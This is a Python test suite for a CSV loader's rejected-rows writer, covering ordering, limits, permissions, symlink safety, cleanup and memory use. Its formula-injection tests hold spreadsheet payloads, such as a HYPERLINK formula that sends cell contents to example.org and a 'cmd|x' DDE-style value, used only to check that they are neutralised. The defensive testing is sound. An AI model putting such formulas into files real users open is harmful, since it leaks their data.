"""Rejected records -> a CSV file in the order of the source, or none."""

import csv
import json
import os
import random
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loader.errors import AircanError, RejectsNotWritten, TooManyBadRows, UsageError
from loader.formats.rows import Reject
from loader.scan import rejects as rejects_module
from loader.scan.rejects import Rejects, as_text, check_place, remove_leftovers, remove_stale


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "x.rejects.csv"


def written(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def a_reject(row: int) -> Reject:
    return Reject(row, "4 cells, 3 columns", f"{row},b,c,d")


def reject_and_fail(path: Path, message: str) -> None:
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
        raise AircanError(message)


def files(path: Path) -> list[str]:
    return [file.name for file in path.parent.iterdir()]


def test_rejects_are_rows_with_reason_and_raw_text(path):
    reject = Reject(7, "4 cells, 3 columns", 'a,"b\nc",d,"é ""x"""')
    with Rejects(path, 10) as rejects:
        rejects.add(0, [reject])
    assert written(path) == [["row", "reason", "raw"], ["7", reject.reason, reject.raw]]
    assert files(path) == [path.name]


def test_rejects_are_in_the_order_of_the_source_though_blocks_end_out_of_order(path):
    blocks = [(i, [a_reject(100 * i + j) for j in range(i % 3)]) for i in range(50)]
    random.Random(1).shuffle(blocks)
    with Rejects(path, 1000) as rejects:
        for number, block in blocks:
            rejects.add(number, block)
    rows = [int(row) for row, _, _ in written(path)[1:]]
    assert rows == sorted(rows)
    assert len(rows) == rejects.count == sum(len(block) for _, block in blocks)
    assert [reject.row for reject in rejects.first] == rows[:10]


@pytest.mark.parametrize("limit", [0, 1, 5])
def test_one_more_than_the_limit_is_an_error_that_names_the_first(path, limit):
    with Rejects(path, limit) as rejects:
        for number in range(limit, 0, -1):
            rejects.add(number, [a_reject(10 * number + 2)])
        with pytest.raises(TooManyBadRows, match=f"more than {limit} rows") as raised:
            rejects.add(0, [a_reject(2)])
    assert raised.value.row == 2
    assert "4 cells, 3 columns" in str(raised.value)
    assert str(path) in (raised.value.hint or "")
    assert len(written(path)) == 1 + limit + 1


def test_as_many_as_the_limit_are_no_error(path):
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(i) for i in range(3)])
    assert rejects.count == 3


def test_without_rejects_there_is_no_file(path):
    with Rejects(path, 3) as rejects:
        rejects.add(0, [])
        rejects.add(1, [])
    assert files(path) == []
    assert (rejects.count, rejects.first) == (0, [])


def test_discarded_rejects_leave_no_file(path):
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
        rejects.discard()
    assert files(path) == []


def test_the_file_is_kept_when_the_load_fails(path):
    with pytest.raises(AircanError, match="other"):
        reject_and_fail(path, "other")
    assert len(written(path)) == 2


def test_an_older_file_is_replaced_only_when_the_new_one_is_whole(path):
    path.write_text("old")
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
        assert path.read_text() == "old"
    assert len(written(path)) == 2


# What stands in the way: the path below the folder; what it says at the first row; and what when
# somebody names that place.
NO_FOLDER, IS_FOLDER = "there is no such folder", "it is a folder"
OBSTACLES = {
    "no folder": ("nowhere/x.csv", "No such file or directory", NO_FOLDER),
    "a file as its folder": ("file/x.csv", "Not a directory", NO_FOLDER),
    "a folder in its place": ("folder", IS_FOLDER, IS_FOLDER),
    "the folder itself": (".", IS_FOLDER, IS_FOLDER),
    "a name too long": ("x" * 300, "File name too long", "File name too long"),
    "a NUL": ("a\0b", "ValueError", None),
    "a folder that takes no file": ("/proc/x.csv", "No such file or directory", None),
}


@pytest.mark.parametrize(("name", "at_a_row", "named"), OBSTACLES.values(), ids=OBSTACLES)
def test_a_place_that_cannot_be_written_matters_at_the_first_row(tmp_path, name, at_a_row, named):
    (tmp_path / "folder").mkdir()
    (tmp_path / "file").touch()
    path = tmp_path / name
    with Rejects(path, 3) as rejects:
        rejects.add(0, [])
        with pytest.raises(RejectsNotWritten, match=at_a_row) as refused:
            rejects.add(1, [a_reject(1)])
    assert refused.value.option == "rejects"
    assert {file.name for file in tmp_path.iterdir()} == {"folder", "file"}
    if named is None:
        check_place(path)
        return
    with pytest.raises(UsageError, match=named) as wrong:
        check_place(path)
    assert wrong.value.option == "rejects"
    assert str(path) in str(wrong.value)


def test_without_a_place_they_are_counted(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with Rejects(None, 3) as rejects:
        rejects.add(0, [a_reject(1), a_reject(2)])
        assert (rejects.count, [reject.row for reject in rejects.first]) == (2, [1, 2])
        with pytest.raises(TooManyBadRows) as refused:
            rejects.add(1, [a_reject(3), a_reject(4)])
        rejects.discard()
    assert "see" not in (refused.value.hint or "")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077])
def test_only_its_owner_may_read_it(path, mask):
    path.touch(0o666)
    before = os.umask(mask)
    try:
        with Rejects(path, 3) as rejects:
            rejects.add(0, [a_reject(1)])
            (partial,) = path.parent.glob("*.part")
            assert partial.stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(before)
    assert path.stat().st_mode & 0o777 == 0o600


def test_what_lies_where_it_is_written_is_not_written_through(path):
    """In a folder of everybody's, a stranger may have put a link there."""
    other = path.with_name("other")
    other.write_text("mine")
    path.with_name(f"{path.name}.{os.getpid()}.part").symlink_to(other)
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
    assert other.read_text() == "mine"
    assert len(written(path)) == 2


# What a spreadsheet would take for a formula: by what it begins with, and what stands before it.
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62"]
BEFORE = ["", " ", "\u00a0", '"', "'", '" "', "\ufeff", "\u200b", "\u202e", "\x01", "\t", "\r"]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE)
def test_a_cell_that_would_be_a_formula_is_text(path, sign, before):
    formula = f'{before}{sign}HYPERLINK("http://example.org?"&A1,"x"),b,c,d'
    with Rejects(path, 9) as rejects:
        rejects.add(0, [Reject(7, f"{sign}1", formula)])
    (_, row) = written(path)
    assert row == ["7", f"'{sign}1", f"'{formula}"]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("before", ["", " ", '"'])
def test_so_is_one_after_the_separator_of_another_country(sign, separator, before):
    """A semicolon separates in Excel where the comma is a decimal sign, whatever the file says."""
    assert as_text(f"1{separator}{before}{sign}cmd|x") == f"1{separator}'{before}{sign}cmd|x"


@pytest.mark.parametrize(
    "text",
    ["", "a", "a=b", "1-2", "a,-5", "x;-5;+3,5;-1.000", "a@b.example", "x;-5\ty", "'a", "3+4"],
)
def test_what_is_no_formula_is_left_as_it_is(text):
    assert as_text(text) == text


# As docs/command-line.md has it.
NUMBERS = {
    "-5": "'-5",
    "+1.000,5": "'+1.000,5",
    " -5": "' -5",
    "\t5": "'\t5",
    "-5;-5": "'-5;-5",
    "x;-5": "x;-5",
    "x; -5 ;y": "x; -5 ;y",
    "x\t+1.000,5": "x\t+1.000,5",
    "x\n-5": "x\n-5",
    "x;-5%": "x;'-5%",
    'x;"-5"': 'x;\'"-5"',
    "x;-5-5": "x;'-5-5",
    "x,-5%": "x,-5%",
}


@pytest.mark.parametrize(("cell", "written"), NUMBERS.items())
def test_a_number_is_marked_where_a_cell_begins_for_certain(cell, written):
    assert as_text(cell) == written


@given(st.text(), st.sampled_from(SIGNS))
def test_no_cell_begins_with_a_sign(text, sign):
    for cell in (text, sign + text):
        assert as_text(cell)[:1] not in (*SIGNS, "\t", "\r", "\n")
        assert as_text(cell).replace("'", "") == cell.replace("'", "")


def lose_the_place(rejects: Rejects, error: AircanError | None = None) -> None:
    with rejects:
        rejects.add(0, [a_reject(1)])
        rejects.path.mkdir()
        if error:
            raise error


def test_a_place_that_is_lost_later_is_no_wrong_usage(path):
    rejects = Rejects(path, 3)
    with pytest.raises(RejectsNotWritten, match="cannot be written"):
        lose_the_place(rejects)
    assert files(path) == [path.name]


def test_a_file_that_cannot_be_finished_does_not_hide_why_the_load_failed(path):
    with pytest.raises(AircanError, match="the first error"):
        lose_the_place(Rejects(path, 3), AircanError("the first error"))
    assert files(path) == [path.name]


def fill_the_disk(path: Path, size: int) -> None:
    """Write where there is room for 8 bytes; Python ignores the signal that would end it."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (8, before[1]))
    try:
        with Rejects(path, 9) as rejects:
            rejects.add(0, [Reject(1, "why", "x" * size)])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.parametrize("size", [10, 10**6], ids=["when it is finished", "while it is written"])
def test_a_full_disk_is_told_as_such(path, size):
    with pytest.raises(RejectsNotWritten, match="File too large"):
        fill_the_disk(path, size)
    assert files(path) == []


def test_the_rejects_of_an_earlier_load_are_removed(path):
    with Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
    remove_stale(path)
    assert files(path) == []
    remove_stale(path)


# What somebody may have under that name.
FOREIGN = {
    "nothing": b"",
    "rows": b"my,own\n",
    "no text": b"\xff\xfe",
    "the same header": b"row,reason,raw\n",
    "the same header over rows": b"row,reason,raw\nred,blue,green\n",
    "one column more": b"row,reason,raw\n1,2,3,4\n",
    "a quote that never ends": b'row,reason,raw\n"' + b"x" * 200_000,
}


@pytest.mark.parametrize("content", FOREIGN.values(), ids=FOREIGN)
def test_a_file_that_holds_no_rejects_is_not_removed(path, content):
    path.write_bytes(content)
    remove_stale(path)
    assert path.read_bytes() == content


def test_neither_a_link_nor_somebody_elses_file_nor_a_folder_is_removed(path):
    ours = path.with_name("ours.csv")
    with Rejects(ours, 3) as rejects:
        rejects.add(0, [a_reject(1)])
    path.symlink_to(ours)
    remove_stale(path)
    assert path.is_symlink()
    path.unlink()
    path.mkdir()
    remove_stale(path)
    assert path.is_dir()
    if os.geteuid() == 0:
        os.chown(ours, 65534, 65534)
        remove_stale(ours)
        assert ours.exists()


def test_what_a_killed_load_left_is_removed_and_nothing_else(path):
    gone = subprocess.Popen(["true"])
    gone.wait()
    running = os.getpid()
    for end in (f"{gone.pid}.part", f"{running}.part", "mine.part", f"{gone.pid}"):
        path.with_name(f"{path.name}.{end}").touch()
    path.with_name(f"other.csv.{gone.pid}.part").touch()
    remove_leftovers(path)
    assert sorted(files(path)) == sorted(
        [
            f"other.csv.{gone.pid}.part",
            *(f"{path.name}.{end}" for end in (f"{running}.part", "mine.part", f"{gone.pid}")),
        ]
    )


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), max_size=5)
)
def test_any_raw_text_comes_back(tmp_path_factory, raws):
    path = tmp_path_factory.mktemp("rejects") / "x.csv"
    with Rejects(path, 10) as rejects:
        rejects.add(0, [Reject(i, "why", raw) for i, raw in enumerate(raws)])
    assert (written(path)[1:] if raws else []) == [
        [str(i), "why", as_text(r)] for i, r in enumerate(raws)
    ]


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["a pipe", "a folder"])
def test_what_is_no_file_is_not_replaced_by_one(path, make):
    """Nor is /dev/null, by a load that root runs."""
    make(path)
    kind = path.stat().st_mode
    with pytest.raises(UsageError, match="it is a"):
        check_place(path)
    with pytest.raises(RejectsNotWritten, match="a device or a pipe"), Rejects(path, 3) as rejects:
        rejects.add(0, [a_reject(1)])
    assert path.stat().st_mode == kind
    assert files(path) == [path.name]


@pytest.mark.parametrize("raw", ["a", '"', '""', '"a"', "a,b", "a\r\nb", "é", "=1"], ids=repr)
def test_a_long_row_is_written_like_a_short_one(path, monkeypatch, raw):
    monkeypatch.setattr(rejects_module, "PIECE_CHARACTERS", 7)
    raws = [raw, raw * 7, raw * 8, raw * 21, raw * 50]
    with Rejects(path, 9) as rejects:
        rejects.add(0, [Reject(i, 'a, "b"', one) for i, one in enumerate(raws)])
    assert written(path)[1:] == [[str(i), 'a, "b"', as_text(one)] for i, one in enumerate(raws)]
    assert path.read_bytes().count(b"\r\n") >= len(raws) + 1


# One row of 30 MB of quotes, and what is wrong with it. It is set aside, or mended: 350 MB in all.
LONG_ROWS = {
    "set aside": ('9,"', '""', '",x,y'),
    "mended": ('9,"', '""', '",'),
    "in good order": ('9,"', '""', '"'),
}


@pytest.mark.parametrize(("begin", "unit", "end"), LONG_ROWS.values(), ids=LONG_ROWS)
def test_a_long_row_takes_little_memory(tmp_path, datastore_url_18, begin, unit, end):
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8") as file:
        file.write("id,text\n" + "1,x\n" * 2000)
        file.write(f"{begin}{unit * 15_000_000}{end}\n")
    assert mib_of_a_load(source, datastore_url_18) < 400


# Rows that have next to nothing of what the header asks for.
SHORT_ROWS = {
    "one cell": "1",
    "an empty cell": ",",
    "quotes": '""',
    "more than there are": ",,1" * 90,
}


@pytest.mark.parametrize("row", SHORT_ROWS.values(), ids=SHORT_ROWS)
def test_short_rows_of_a_wide_table_take_little_memory(tmp_path, datastore_url_18, row):
    source = tmp_path / "in.csv"
    width = 1500 if len(row) < 10 else 100
    header = ",".join(f"c{number}" for number in range(width))
    source.write_text(f"{header}\n" + f"{row}\n" * 30_000)
    assert mib_of_a_load(source, datastore_url_18, max_bad_rows=10**9) < 450


def mib_of_a_load(source, url, **options):
    code = (
        "import json, sys, pyarrow\n"
        "pyarrow.set_memory_pool(pyarrow.system_memory_pool())\n"
        "from loader import load\n"
        "from loader.errors import NoRows, TooManyBadRows\n"
        "try:\n"
        "    load(sys.argv[1], resource_id='t', datastore_url=sys.argv[2], full_text='none',\n"
        "         rejects=sys.argv[3], **json.loads(sys.argv[4]))\n"
        "except (NoRows, TooManyBadRows): pass\n"
        # Not ru_maxrss, which counts the process too that this one was forked from.
        "lines = open('/proc/self/status').read().splitlines()\n"
        "print(next(line.split()[1] for line in lines if line.startswith('VmHWM')))"
    )
    given = [str(source), url, str(source.with_name("rejects.csv")), json.dumps(options)]
    run = subprocess.run(
        [sys.executable, "-c", code, *given], capture_output=True, text=True, check=True
    )
    return int(run.stdout) // 1024
